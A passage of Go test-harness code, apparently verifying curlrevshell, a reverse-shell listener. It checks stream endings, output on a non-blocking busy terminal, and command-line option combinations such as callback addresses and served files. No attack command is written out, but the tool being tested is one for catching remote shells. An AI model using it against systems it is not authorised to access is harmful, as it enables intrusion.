			if c == d {
				idle = true
				break
			}
			time.Sleep(2 * time.Millisecond)
		}
		if !idle {
			viol("stream-left-attached", fmt.Sprintf("generation %d (%s): a stream is still attached although the shell is gone", g, desc))
			closeAll()
			return
		}
		// seen from the client: the requests it has not dropped itself are ended by the server
		// (answered completely, or their connection let go of) although it sends nothing more
		if outOpen {
			how := outputRequestEnded(out.C, hk.Bound)
			if how == "" {
				viol("output-request-not-ended-without-further-traffic", fmt.Sprintf("generation %d (%s; %d of the declared %d bytes sent): the shell was announced gone after the client's %s, but %s later the server has neither answered the shell's output request nor let go of its connection, while the client sent nothing: the other direction is not ended without further traffic", g, desc, sent, declared, ending, hk.Bound))
				closeAll()
				return
			}
			r.Count(engine+"_client_saw_request_ended:output-"+class, 1)
			r.Count(engine+"_output_request_ended_by:"+how, 1)
			if (ending == "close-in" || ending == "rst-in") && class == "len-little" {
				r.Count(engine+"_input_ended_first_with_declared_length_upload_stalled", 1)
			}
		}
		if inOpen {
			how := inputRequestEnded(in, hk.Bound)
			if how == "" {
				viol("input-request-not-ended-without-further-traffic", fmt.Sprintf("generation %d (%s): the shell was announced gone after the client's %s, but %s later the response carrying the shell's input has not come to its end, while the client sent nothing: the other direction is not ended without further traffic", g, desc, ending, hk.Bound))
				closeAll()
				return
			}
			r.Count(engine+"_client_saw_request_ended:input", 1)
			r.Count(engine+"_input_request_ended_by:"+how, 1)
		}
		closeAll()
		if scan {
			// the transport streams are closed: nothing serving them may be left
			var left []string
			scanEnd := time.Now().Add(hk.Bound)
			for k := 0; ; k++ {
				left = append(httpGoroutines(), iobGoroutines()...)
				if len(left) == 0 || !time.Now().Before(scanEnd) {
					break
				}
				runtime.Gosched()
				time.Sleep(time.Duration(k/10+1) * time.Millisecond)
			}
			r.Count(engine+"_leak_scans", 1)
			for _, st := range left {
				key := httpLeakKey(st)
				if strings.Contains(st, "/internal/iobroker.") {
					key = leakKey(st)
				}
				viol(key, fmt.Sprintf("generation %d (%s): the shell is gone and the client has closed its connections, yet %s later a goroutine still serves one of them:\n%s", g, desc, hk.Bound, st))
			}
			if len(left) > 0 {
				return
			}
		}
		// drain lines the burst left queued (the next shell would get them; that is C02's business)
		for len(s.Ich) > 0 {
			select {
			case <-s.Ich:
			default:
			}
		}
		to, _ := s.Mark(fmt.Sprintf("MARK-%s-%d-%d", engine, i, g))
		gone, help := 0, 0
		for _, e := range s.OpLines(from, to) {
			if strings.Contains(e.S, "Shell is gone") {
				gone++
			}
			if strings.Contains(e.S, "To get a shell:") {
				help++
			}
		}
		if gone != 1 {
			viol(fmt.Sprintf("gone-notices-%d", gone), fmt.Sprintf("generation %d (%s): %d gone notices", g, desc, gone))
		}
		if help != 1 {
			viol(fmt.Sprintf("callback-help-printed-%d-times", help), fmt.Sprintf("generation %d (%s): callback help printed %d times after one shell", g, desc, help))
		}
		from = to
		r.Eval(1)
		r.Count(engine+"_generations", 1)
		r.Count(engine+"_ending:"+ending, 1)
		if out != nil {
			r.Count(engine+"_out_class:"+class, 1)
		}
		r.Distinct("http|" + desc)
	}
	if i == 0 {
		r.Sample(engine, map[string]any{"generations": hist})
	}
}

package c03

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/ptyx"
)

// Engine "ptynb": the environment dimension "the terminal's open file
// description is NON-BLOCKING and the terminal is busy".
//
// The program is started on an ordinary (blocking) pty.  After it has printed
// its banner, the harness sets O_NONBLOCK on the pty slave it holds - the very
// open file description the child has as stdin/stdout/stderr - which is what a
// sibling process sharing the terminal (ssh, a terminal multiplexer, a
// node/python wrapper) does behind a program's back.  Then a shell floods the
// program with numbered output while the terminal is stalled (not read at all
// until the flood is over) or drains in short pulses, so that the program's
// writes to the terminal are accepted only in part or refused (EAGAIN); then
// the terminal is drained.
//
// Oracle, exactly the prefix rule of the other terminal engines: at every
// moment the harness looks, the shell's bytes on the terminal are a PREFIX of
// what the shell sent - nothing shown twice, nothing left out in the middle,
// nothing reordered.  Completeness is NOT demanded here: once a terminal write
// fails, the unchanged program stops displaying output (output handling ends
// with the write error), which the property's statement does not rule out in
// an environment it does not speak of; only "what has been shown is always a
// prefix of what was sent" is judged, and that the program does not crash.

const nbPrompt = "> "

type nbClass struct {
	j     int
	io    bool // /io instead of /i + /o
	early bool // the description becomes non-blocking before the shell attaches (else once it is ready)
	sched int  // 0 stalled until the flood is over, then drained; 1 drained in pulses; 2 read all the time
	lines int  // 0 long lines (a line is longer than a broker chunk), 1 short lines, 2 mixed
}

var nbSchedName = []string{"stalled-then-drained", "drained-in-pulses", "read-all-the-time"}
var nbLinesName = []string{"long-lines", "short-lines", "mixed-lines"}

func nbClassOf(j int) nbClass {
	return nbClass{
		j:     j,
		io:    j%2 == 1,
		early: (j/2)%2 == 1,
		sched: []int{0, 1, 0, 1, 1, 0, 2, 2}[j%8],
		lines: (j + j/8) % 3,
	}
}

func (c nbClass) String() string {
	k, w := "o", "nonblocking-once-ready"
	if c.io {
		k = "io"
	}
	if c.early {
		w = "nonblocking-before-attach"
	}
	return fmt.Sprintf("%s|%s|%s|%s", k, w, nbSchedName[c.sched], nbLinesName[c.lines])
}

// nbGen: numbered tokens {id:seq}, newlines at a class-dependent density, some
// filler.  No ESC, no CR (see ptyb), and none of the prompt's characters next
// to each other.
func nbGen(rng *rand.Rand, id string, size, lines int) []byte {
	var b []byte
	seq := 0
	sinceNL := 0
	lineLen := func() int {
		switch l := lines; {
		case l == 0 || (l == 2 && rng.IntN(3) == 0):
			return 2500 + rng.IntN(6000)
		default:
			return 1 + rng.IntN(120)
		}
	}
	next := lineLen()
	for len(b) < size {
		t := fmt.Sprintf("{%s:%d}", id, seq)
		seq++
		b = append(b, t...)
		sinceNL += len(t)
		if rng.IntN(40) == 0 {
			b = append(b, " \tfiller "...)
			sinceNL += 9
		}
		if sinceNL >= next {
			b = append(b, '\n')
			if rng.IntN(25) == 0 {
				b = append(b, '\n') // an empty line
			}
			sinceNL, next = 0, lineLen()
		}
	}
	return b
}

// nbNonblocking reads the flags of the child's standard output from /proc: the
// ground truth that the description the PROGRAM writes to is non-blocking.
func nbNonblocking(pid int) (bool, error) {
	d, err := os.ReadFile(fmt.Sprintf("/proc/%d/fdinfo/1", pid))
	if err != nil {
		return false, err
	}
	for _, l := range strings.Split(string(d), "\n") {
		if f, ok := strings.CutPrefix(l, "flags:"); ok {
			v, err := strconv.ParseUint(strings.TrimSpace(f), 8, 64)
			if err != nil {
				return false, err
			}
			return v&uint64(syscall.O_NONBLOCK) != 0, nil
		}
	}
	return false, fmt.Errorf("no flags line in fdinfo")
}

// nbSettle waits until the terminal text has not grown for quiet (at most
// max).  It only decides WHEN the harness looks; the rule judged holds at any
// moment.
func nbSettle(p *ptyx.Proc, quiet, max time.Duration) {
	start := time.Now()
	last, lastChange := p.CleanLen(), time.Now()
	for time.Since(start) < max && !p.Exited() {
		time.Sleep(20 * time.Millisecond)
		if n := p.CleanLen(); n != last {
			last, lastChange = n, time.Now()
		} else if time.Since(lastChange) >= quiet {
			return
		}
	}
}

type nbLook struct {
	shown    int  // bytes of the shell's output on the terminal (as sent: LF counted once)
	complete bool // everything the shell sent is there
	ownText  int  // bytes of the program's own text after the shell's output
}

// nbJudge applies the prefix rule to the terminal text from base on (base =
// just after the callback help that precedes the shell).  expected is what the
// shell sent with LF written as CR LF, the way the line editor writes it.
func nbJudge(clean []byte, base int, expected []byte, marker string) (l nbLook, bad string, at int) {
	region := ptybAttachRe.ReplaceAll(clean[base:], nil)
	k := 0
	for k < len(region) && k < len(expected) && region[k] == expected[k] {
		k++
	}
	l.shown = k - bytes.Count(expected[:k], []byte("\r\n"))
	l.complete = k == len(expected)
	if k == len(region) {
		return l, "", 0
	}
	// What follows the common prefix.  The prompt (or, the terminal having
	// been read in the middle of the program's write, a part of it) may stand
	// after the output; its first character could also have been taken for
	// the continuation of the output.
	for j := max(0, k-len(nbPrompt)); j <= k; j++ {
		if rest := region[j:]; len(rest) <= len(nbPrompt) && bytes.HasPrefix([]byte(nbPrompt), rest) {
			l.shown = j - bytes.Count(expected[:j], []byte("\r\n"))
			return l, "", 0
		}
	}
	rest := region[k:]
	l.ownText = len(rest)
	if m := bytes.Index(rest, []byte(marker)); m >= 0 {
		if l.complete {
			return l, fmt.Sprintf("output of the shell appears again after all %d bytes it sent had been displayed", len(expected)), k + m
		}
		return l, fmt.Sprintf("the shell's bytes on the terminal are not a prefix of what it sent: displayed and sent streams diverge at offset %d, and more of the shell's output follows", k), k
	}
	// No output of the shell follows: the program's own text (a notice, an
	// error message).  Nothing of the shell's output is shown twice or out of
	// order; that it is incomplete is not judged here.
	return l, "", 0
}

func nbSession(r *mon.Run, bin string, i int) {
	c := nbClassOf(i)
	rng := r.Rng("ptynb", i)
	id := fmt.Sprintf("nb%d", i)
	marker := id + ":"
	home := filepath.Join(r.Work, fmt.Sprintf("ptynb-%d", i))
	s, err := crs.Start(bin, home, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", "")
	if err != nil {
		r.Inconclusive("ptynb: binary did not start: " + err.Error())
		return
	}
	defer s.Close()
	base, ok := ptybHelpEnd(s, 0)
	if !ok {
		r.Inconclusive("ptynb: no callback help at the start")
		return
	}
	size := 80000 + rng.IntN(120000)
	sent := nbGen(rng, id, size, c.lines)
	expected := bytes.ReplaceAll(sent, []byte("\n"), []byte("\r\n"))
	viol := func(key, what string, extra map[string]any) {
		cl := s.P.Clean()
		w := map[string]any{"class": c.String(), "bytes_sent": len(sent), "terminal_tail": fmt.Sprintf("%+q", cl[max(0, len(cl)-600):])}
		for k, v := range extra {
			w[k] = v
		}
		r.Violate("ptynb", i, key, what, w)
	}
	setNB := func() bool {
		if err := s.P.SetNonblock(true); err != nil {
			r.Inconclusive("ptynb: cannot make the terminal non-blocking: " + err.Error())
			return false
		}
		return true
	}
	if c.early && !setNB() {
		return
	}
	// a patient shell attaches
	var in *crs.InStream
	var out *crs.OutStream
	if c.io {
		ios, err := crs.OpenIO(s.Addr)
		if err != nil {
			r.Inconclusive("ptynb: " + err.Error())
			return
		}
		in, out = ios.In, ios.Out
	} else {
		in, err = crs.OpenIn(s.Addr, "/i/"+id)
		if err != nil {
			r.Inconclusive("ptynb: " + err.Error())
			return
		}
		if _, ok := s.Wait(`Input connected: ID "`+id+`"`, base, crs.Bound); !ok {
			in.Close()
			r.Inconclusive("ptynb: no Input connected notice")
			return
		}
		out, err = crs.OpenOut(s.Addr, "/o/"+id)
		if err != nil {
			in.Close()
			r.Inconclusive("ptynb: " + err.Error())
			return
		}
	}
	defer in.Close()
	defer out.Close()
	if _, ok := s.Wait(`Shell is ready[^\n]*\n`, base, crs.Bound); !ok {
		r.Inconclusive("ptynb: no ready notice (the terminal is read and idle at this point)")
		return
	}
	if !c.early && !setNB() {
		return
	}
	if nb, err := nbNonblocking(s.P.Pid()); err != nil {
		r.Inconclusive("ptynb: cannot read the flags of the program's standard output: " + err.Error())
		return
	} else if nb {
		r.Count("ptynb_program_stdout_seen_nonblocking", 1)
	}
	// the flood, against a busy terminal
	stop := make(chan struct{})
	var wg sync.WaitGroup
	switch c.sched {
	case 0:
		s.P.PauseReading()
	case 1:
		prng := rand.New(rand.NewPCG(uint64(r.Seed), uint64(i)+7777))
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				s.P.PauseReading()
				select {
				case <-stop:
					return
				case <-time.After(time.Duration(3000+prng.IntN(15000)) * time.Microsecond):
				}
				s.P.ResumeReading()
				time.Sleep(time.Duration(100+prng.IntN(900)) * time.Microsecond)
			}
		}()
	}
	sendErr := error(nil)
	for off := 0; off < len(sent) && sendErr == nil; {
		n := 1 + rng.IntN(6000)
		if rng.IntN(5) == 0 {
			n = 1 + rng.IntN(60)
		}
		n = min(n, len(sent)-off)
		sendErr = out.Send(string(sent[off : off+n]))
		off += n
		if rng.IntN(12) == 0 {
			time.Sleep(time.Duration(100+rng.IntN(1500)) * time.Microsecond)
		}
	}
	// let the program get through what it has been sent while the terminal is
	// still busy (this shapes the schedule only), then drain the terminal
	time.Sleep(300 * time.Millisecond)
	close(stop)
	wg.Wait()
	s.P.ResumeReading()
	if sendErr != nil {
		r.Inconclusive(fmt.Sprintf("ptynb: shell %s: send failed: %v", c, sendErr))
		return
	}
	nbSettle(s.P, 400*time.Millisecond, 15*time.Second)
	judge := func(phase string) (nbLook, bool) {
		clean := []byte(s.P.Clean())
		l, bad, at := nbJudge(clean, base, expected, marker)
		if bad != "" {
			region := ptybAttachRe.ReplaceAll(clean[base:], nil)
			viol("terminal-bytes-diverge", bad+" ("+phase+"; the terminal's file description was made non-blocking after the program started, terminal "+nbSchedName[c.sched]+")",
				map[string]any{"displayed_around": ptybQ(region, at, 60), "sent_around": ptybQ(expected, at, 60), "displayed_bytes": len(region), "phase": phase})
			return l, false
		}
		return l, true
	}
	// first look: the shell is still attached, its stream has not ended
	l1, ok := judge("shell still attached")
	if !ok {
		return
	}
	// second look: the stream has ended by itself
	out.End()
	if !l1.complete {
		// nothing may be coming any more; give it a moment (schedule only)
		nbSettle(s.P, 300*time.Millisecond, 3*time.Second)
	} else {
		s.Wait(`Shell is gone[^\n]*\n`, base, crs.Bound)
		nbSettle(s.P, 200*time.Millisecond, 3*time.Second)
	}
	l2, ok := judge("after the stream ended by itself")
	if !ok {
		return
	}
	// the sibling puts things back; the operator leaves
	s.P.SetNonblock(false)
	status, sig, exited := s.Quit()
	raw := s.P.Raw()
	crashed := ""
	switch {
	case exited && sig != "":
		crashed = "the program was killed by signal " + sig
	case bytes.Contains(raw, []byte("panic: ")) || bytes.Contains(raw, []byte("fatal error: ")) || bytes.Contains(raw, []byte("goroutine 1 [")):
		crashed = "the program crashed"
	}
	if crashed != "" {
		viol("program-crashes-on-busy-nonblocking-terminal", crashed+" after its terminal was made non-blocking and was too busy to take its output", map[string]any{"exit_status": status, "signal": sig})
		return
	}
	if _, ok := judge("after the program was told to quit"); !ok {
		return
	}
	r.Eval(1)
	r.Distinct("ptynb|" + c.String() + fmt.Sprintf("|%d", len(sent)))
	r.Count("ptynb_sessions", 1)
	r.Count("ptynb_bytes_sent", int64(len(sent)))
	r.Count("ptynb_bytes_on_terminal", int64(l2.shown))
	r.Count("ptynb_terminal:"+nbSchedName[c.sched], 1)
	if c.io {
		r.Count("ptynb_io", 1)
	} else {
		r.Count("ptynb_o", 1)
	}
	if c.early {
		r.Count("ptynb_nonblocking_before_attach", 1)
	} else {
		r.Count("ptynb_nonblocking_once_ready", 1)
	}
	switch {
	case !l2.complete:
		// the display stopped short of what was sent although the terminal was
		// drained for good: a terminal write was refused or taken in part
		r.Count("ptynb_sessions_display_stopped_short_of_sent", 1)
		if c.sched != 2 {
			r.Count("ptynb_busy_terminal_sessions_display_stopped_short", 1)
		}
		r.Count("ptynb_display_stopped_short:"+nbSchedName[c.sched], 1)
		if l2.shown > 0 && l2.shown < len(sent) && sent[l2.shown-1] != '\n' && sent[l2.shown] != '\n' {
			r.Count("ptynb_display_stopped_inside_a_line", 1)
		}
	default:
		r.Count("ptynb_sessions_everything_displayed", 1)
	}
	if bytes.Contains(raw, []byte("resource temporarily unavailable")) {
		// what the unchanged program says when it leaves after a refused terminal write (informative only)
		r.Count("ptynb_program_reported_eagain_when_leaving", 1)
	}
	if l2.ownText > 0 && !l2.complete {
		r.Count("ptynb_own_text_after_incomplete_output", 1)
	}
	switch {
	case !exited:
		r.Count("ptynb_program_did_not_leave_on_ctrl_d", 1)
	case status == 0:
		r.Count("ptynb_program_left_with_status_0", 1)
	default:
		r.Count("ptynb_program_left_with_error_status", 1)
	}
	if i < 3 {
		r.Sample("ptynb", map[string]any{"class": c.String(), "bytes_sent": len(sent), "bytes_on_terminal_while_attached": l1.shown, "bytes_on_terminal_at_the_end": l2.shown, "exit_status": status, "exited": exited})
	}
}

func ptynbSessions(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	n := r.N(8, 32)
	mon.Parallel(n, 4, func(i int) {
		if r.Want("ptynb", i) {
			nbSession(r, bin, i)
		}
	})
	N := int64(n)
	r.Floor("ptynb_sessions", N)
	r.Floor("ptynb_program_stdout_seen_nonblocking", N)
	r.Floor("ptynb_terminal:"+nbSchedName[0], 3*N/8)
	r.Floor("ptynb_terminal:"+nbSchedName[1], 3*N/8)
	r.Floor("ptynb_terminal:"+nbSchedName[2], N/4)
	r.Floor("ptynb_io", N/2)
	r.Floor("ptynb_o", N/2)
	r.Floor("ptynb_nonblocking_before_attach", N/2)
	r.Floor("ptynb_nonblocking_once_ready", N/2)
	// the condition itself: a terminal write refused or taken in part
	r.Floor("ptynb_busy_terminal_sessions_display_stopped_short", N/2)
	r.Floor("ptynb_bytes_on_terminal", N*2048)
}

package c03

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

// Engine "cfg": the CONFIGURATION MATRIX.  The statement does not depend on
// how the program was started, so the byte-exact terminal oracle of ptyb is
// repeated with the real binary under its other documented options - each
// alone and in pairs drawn by index - and with the two stream shapes in which
// a limit that somebody's wiring put around the shell's output connection
// would show:
//
//   - BIG: one shell whose cumulative output is 3-8 MiB (beyond any 1, 2 or
//     4 MiB cap), in TLS writes of a few bytes to 64 KiB, over a chunked body
//     or a body with a declared Content-Length, on /i+/o or /io;
//   - LONG: a shell that stays attached for 12, 16, 21 or 31 s and says a
//     little about every second (steady), or falls silent for 11 or 16 s in
//     the middle (gap), and then ends its stream by itself.
//
// All sessions are separate processes and run at the same time, beside the
// other engines (the LONG ones sleep most of the time).
//
// Oracle (that of ptyb, no clock in it): the clean terminal text between the
// end of the start-up texts and the shell's first close/gone notice, minus the
// attach notices (with -one-shell also the "Closing listener" notice) and the
// notice's own prefix, CR LF read as LF, equals the bytes the shell sent; no
// token of the shell after the notice.  The harness's shells never drop their
// connection in this engine: a close/gone notice that comes while the shell is
// still sending, with bytes the shell had already written left out, is the
// program cutting an attached shell off.

// ---- the options -----------------------------------------------------------------

type cfgCtx struct {
	home      string
	rng       *rand.Rand
	args      []string
	env       []string
	oneShell  bool
	listenSet bool
	certSet   bool
	certNear  bool   // put the certificate cache near/inside the served directory
	fdir      string // the served directory (absolute), if any
	tmplWarn  bool   // the template file is missing: a warning follows the callback help
	twice     bool   // some flag was given twice
	labels    []string
}

func (c *cfgCtx) path(elem ...string) string {
	return filepath.Join(append([]string{c.home}, elem...)...)
}

func (c *cfgCtx) write(p string, data string) string {
	os.MkdirAll(filepath.Dir(p), 0o755)
	os.WriteFile(p, []byte(data), 0o644)
	return p
}

type cfgVariant struct {
	name       string
	degenerate bool // spells the default configuration (only drawn in pairs)
	apply      func(c *cfgCtx)
}

type cfgOption struct {
	name     string
	variants []cfgVariant
}

func cfgServeDir(c *cfgCtx, name string) string {
	d := c.path(name)
	c.write(filepath.Join(d, "index.html"), "<html>served</html>\n")
	c.write(filepath.Join(d, "tool.sh"), "#!/bin/sh\necho tool\n")
	c.write(filepath.Join(d, "sub", "data.bin"), strings.Repeat("0123456789abcdef", 4096))
	c.fdir = d
	return d
}

var cfgOptions = []cfgOption{
	{"one-shell", []cfgVariant{
		{"-one-shell", false, func(c *cfgCtx) { c.args = append(c.args, "-one-shell"); c.oneShell = true }},
		{"-one-shell=true", false, func(c *cfgCtx) { c.args = append(c.args, "-one-shell=true"); c.oneShell = true }},
		{"--one-shell", false, func(c *cfgCtx) { c.args = append(c.args, "--one-shell"); c.oneShell = true }},
		{"twice:=false,then-set", false, func(c *cfgCtx) {
			c.args = append(c.args, "-one-shell=false", "-one-shell")
			c.oneShell, c.twice = true, true
		}},
	}},
	{"serve-files-from", []cfgVariant{
		{"directory", false, func(c *cfgCtx) { c.args = append(c.args, "-serve-files-from", cfgServeDir(c, "files")) }},
		{"single-file", false, func(c *cfgCtx) {
			d := cfgServeDir(c, "files")
			c.args = append(c.args, "-serve-files-from", filepath.Join(d, "tool.sh"))
		}},
		{"relative", false, func(c *cfgCtx) { cfgServeDir(c, "files"); c.args = append(c.args, "-serve-files-from", "files") }},
		{"dot-dot", false, func(c *cfgCtx) {
			cfgServeDir(c, "files")
			os.MkdirAll(c.path("other"), 0o755)
			c.args = append(c.args, "-serve-files-from", c.path("other")+"/../files")
		}},
		{"relative-dot-dot", false, func(c *cfgCtx) {
			cfgServeDir(c, "files")
			c.args = append(c.args, "-serve-files-from", "../"+filepath.Base(c.home)+"/./files/")
		}},
		{"symlink-to-directory", false, func(c *cfgCtx) {
			d := cfgServeDir(c, "files")
			os.Symlink(d, c.path("link"))
			c.args = append(c.args, "-serve-files-from", c.path("link"))
		}},
		{"symlink-to-file", false, func(c *cfgCtx) {
			d := cfgServeDir(c, "files")
			os.Symlink(filepath.Join(d, "tool.sh"), c.path("flink"))
			c.args = append(c.args, "--serve-files-from", c.path("flink"))
		}},
		{"spaces-at-the-edges", false, func(c *cfgCtx) { c.args = append(c.args, "-serve-files-from", cfgServeDir(c, " files ")) }},
		{"-flag=value", false, func(c *cfgCtx) { c.args = append(c.args, "-serve-files-from="+cfgServeDir(c, "files")) }},
		{"twice:missing,then-directory", false, func(c *cfgCtx) {
			c.args = append(c.args, "-serve-files-from", c.path("nowhere"), "-serve-files-from", cfgServeDir(c, "files"))
			c.twice = true
		}},
		{"empty-value", true, func(c *cfgCtx) { c.args = append(c.args, "-serve-files-from", "") }},
	}},
	{"callback-address", []cfgVariant{
		{"one", false, func(c *cfgCtx) { c.args = append(c.args, "-callback-address", "shells.example.com:443") }},
		{"dozens", false, func(c *cfgCtx) {
			for k := 0; k < 40; k++ {
				a := fmt.Sprintf("h%d.example.net:%d", k, 4000+k)
				if k%3 == 1 {
					a = fmt.Sprintf("192.0.2.%d:%d", k, 4000+k)
				}
				if k%5 == 4 {
					c.args = append(c.args, "-callback-address="+a)
				} else {
					c.args = append(c.args, "-callback-address", a)
				}
			}
			c.twice = true
		}},
		{"-flag=value", false, func(c *cfgCtx) { c.args = append(c.args, "--callback-address=203.0.113.9:8443") }},
	}},
	{"callback-template", []cfgVariant{
		{"regular-file", false, func(c *cfgCtx) {
			c.args = append(c.args, "-callback-template", c.write(c.path("tmpl", "cb.tmpl"), "#!/bin/sh\n# custom template\necho hello\n"))
		}},
		{"symlink", false, func(c *cfgCtx) {
			c.write(c.path("tmpl", "cb.tmpl"), "#!/bin/sh\n# custom template\necho hello\n")
			os.Symlink(c.path("tmpl", "cb.tmpl"), c.path("tmpl.link"))
			c.args = append(c.args, "-callback-template="+c.path("tmpl.link"))
		}},
		{"missing-at-start-up", false, func(c *cfgCtx) {
			c.args = append(c.args, "-callback-template", c.path("tmpl", "not-yet.tmpl"))
			c.tmplWarn = true
		}},
	}},
	{"ctrl-i", []cfgVariant{
		{"file", false, func(c *cfgCtx) {
			c.args = append(c.args, "-ctrl-i", c.write(c.path("fn", "funcs.sh"), "hello() { echo hello; }\n"))
		}},
		{"directory", false, func(c *cfgCtx) {
			c.write(c.path("fnd", "a.sh"), "a() { echo a; }\n")
			c.write(c.path("fnd", "b.sh"), "b() { echo b; }\n")
			c.args = append(c.args, "-ctrl-i", c.path("fnd"))
		}},
		{"missing", false, func(c *cfgCtx) { c.args = append(c.args, "-ctrl-i", c.path("fn", "later.sh")) }},
		{"percent-and-spaces-in-name", false, func(c *cfgCtx) {
			c.args = append(c.args, "--ctrl-i="+c.write(c.path("fn", " 100%41 %s fun cs.sh "), "x() { echo x; }\n"))
		}},
	}},
	{"tls-certificate-cache", []cfgVariant{
		{"explicit-file", false, func(c *cfgCtx) {
			c.args = append(c.args, "-tls-certificate-cache", c.path("certs", "cache.txtar"))
			c.certSet = true
		}},
		{"default-location", false, func(c *cfgCtx) { c.certSet = true }},
		{"near-the-served-directory", false, func(c *cfgCtx) { c.certSet, c.certNear = true, true }},
		{"-flag=value", false, func(c *cfgCtx) {
			c.args = append(c.args, "--tls-certificate-cache="+c.path("cert cache.txtar"))
			c.certSet = true
		}},
	}},
	{"log", []cfgVariant{
		{"-log", false, func(c *cfgCtx) { c.args = append(c.args, "-log", c.path("log.json")) }},
		{"CURLREVSHELL_LOG", false, func(c *cfgCtx) { c.env = append(c.env, "CURLREVSHELL_LOG="+c.path("envlog.json")) }},
		{"--log=value-over-environment", false, func(c *cfgCtx) {
			c.env = append(c.env, "CURLREVSHELL_LOG="+c.path("envlog.json"))
			c.args = append(c.args, "--log="+c.path("log.json"))
		}},
	}},
	{"no-timestamps", []cfgVariant{
		{"-no-timestamps", false, func(c *cfgCtx) { c.args = append(c.args, "-no-timestamps") }},
		{"--no-timestamps=true", false, func(c *cfgCtx) { c.args = append(c.args, "--no-timestamps=true") }},
		{"twice", false, func(c *cfgCtx) { c.args = append(c.args, "-no-timestamps=false", "-no-timestamps"); c.twice = true }},
	}},
	{"ipv6-one-liners", []cfgVariant{
		{"-ipv6-one-liners", false, func(c *cfgCtx) { c.args = append(c.args, "-ipv6-one-liners") }},
		{"--ipv6-one-liners=true", false, func(c *cfgCtx) { c.args = append(c.args, "--ipv6-one-liners=true") }},
	}},
	{"listen-address", []cfgVariant{
		{"localhost:0", false, func(c *cfgCtx) { c.args = append(c.args, "-listen-address", "localhost:0"); c.listenSet = true }},
		{"--flag=value", false, func(c *cfgCtx) { c.args = append(c.args, "--listen-address=127.0.0.1:0"); c.listenSet = true }},
		{"twice", false, func(c *cfgCtx) {
			c.args = append(c.args, "-listen-address", "127.0.0.1:1", "-listen-address=127.0.0.1:0")
			c.listenSet, c.twice = true, true
		}},
	}},
	{"flag-given-twice", []cfgVariant{
		{"no-timestamps", false, func(c *cfgCtx) { c.args = append(c.args, "-no-timestamps=false", "--no-timestamps"); c.twice = true }},
		{"callback-address", false, func(c *cfgCtx) {
			c.args = append(c.args, "-callback-address", "a.example.org:443", "-callback-address", "a.example.org:443", "-callback-address=b.example.org:80")
			c.twice = true
		}},
		{"log", false, func(c *cfgCtx) {
			c.args = append(c.args, "-log", c.path("first.json"), "-log", c.path("second.json"))
			c.twice = true
		}},
		{"ipv6-one-liners", false, func(c *cfgCtx) { c.args = append(c.args, "-ipv6-one-liners=false", "-ipv6-one-liners"); c.twice = true }},
		{"ctrl-i", false, func(c *cfgCtx) {
			c.args = append(c.args, "-ctrl-i", c.path("twice", "none.sh"), "-ctrl-i", c.write(c.path("twice", "f.sh"), "f() { echo f; }\n"))
			c.twice = true
		}},
	}},
	{"prompt", []cfgVariant{
		{"word", false, func(c *cfgCtx) { c.args = append(c.args, "-prompt", "crs# ") }},
		{"-flag=value", false, func(c *cfgCtx) { c.args = append(c.args, "-prompt=sh $ ") }},
	}},
}

// cfgCell is one cell of the matrix: one option alone or a pair.
type cfgCell struct{ opts []int }

// cfgCells: every option alone, then pairs in an order fixed by the seed.
func cfgCells(r *mon.Run) []cfgCell {
	var cs []cfgCell
	n := len(cfgOptions)
	for a := 0; a < n; a++ {
		cs = append(cs, cfgCell{[]int{a}})
	}
	var pairs []cfgCell
	for a := 0; a < n; a++ {
		for b := a + 1; b < n; b++ {
			pairs = append(pairs, cfgCell{[]int{a, b}})
		}
	}
	rng := r.Rng("cfg-pairs", 0)
	rng.Shuffle(len(pairs), func(i, j int) { pairs[i], pairs[j] = pairs[j], pairs[i] })
	return append(cs, pairs[:min(len(pairs), r.N(12, len(pairs)))]...)
}

type cfgSession struct {
	cell  cfgCell
	shape string // big, long
	k     int    // number within the shape: fixes the transport class
}

func cfgSessionsList(r *mon.Run) []cfgSession {
	var ss []cfgSession
	nb, nl := 0, 0
	for ci, c := range cfgCells(r) {
		big, long := true, true
		if len(c.opts) == 2 && !r.Thorough() { // quick: a pair gets one of the two shapes, in turn
			big = ci%2 == 0
			long = !big
		}
		if big {
			ss = append(ss, cfgSession{c, "big", nb})
			nb++
		}
		if long {
			ss = append(ss, cfgSession{c, "long", nl})
			nl++
		}
	}
	return ss
}

var cfgLongSecs = []int{12, 31, 16, 21}

type cfgWrite struct {
	b     []byte
	pause time.Duration // after the write
}

var (
	cfgGoneRe    = regexp.MustCompile(`Shell is gone[^\n]*\n`)
	cfgClosingRe = regexp.MustCompile(ptybTS + `Closing listener[^\n]*\r?\n|` + `(?:\d\d:\d\d:\d\d(?:\.\d+)? )?Closing listener[^\n]*\r?\n`)
	cfgTmplRe    = regexp.MustCompile(`Template file [^\n]*not readable[^\n]*\n`)
)

// cfgWaitGone waits for the gone notice without rescanning megabytes of
// terminal text: it gives up only when the terminal text has not grown for
// quiet (the statement promises that what was sent is shown).
func cfgWaitGone(s *crs.Session, from int, quiet time.Duration) ([]int, bool) {
	last, lastChange := s.P.CleanLen(), time.Now()
	for {
		if loc, ok := s.P.WaitFor(cfgGoneRe, from, 100*time.Millisecond); ok {
			return loc, true
		}
		n := s.P.CleanLen()
		if n != last {
			last, lastChange = n, time.Now()
		} else if time.Since(lastChange) > quiet {
			return nil, false
		}
		from = max(from, n-400)
	}
}

func cfgSessionRun(r *mon.Run, bin string, idx int, ss cfgSession) {
	rng := r.Rng("cfg", idx)
	id := fmt.Sprintf("g%d", idx)
	home := filepath.Join(r.Work, fmt.Sprintf("cfg-%d", idx))
	os.MkdirAll(home, 0o755)
	c := &cfgCtx{home: home, rng: rng}
	for _, o := range ss.cell.opts {
		opt := cfgOptions[o]
		var v cfgVariant
		for {
			v = opt.variants[rng.IntN(len(opt.variants))]
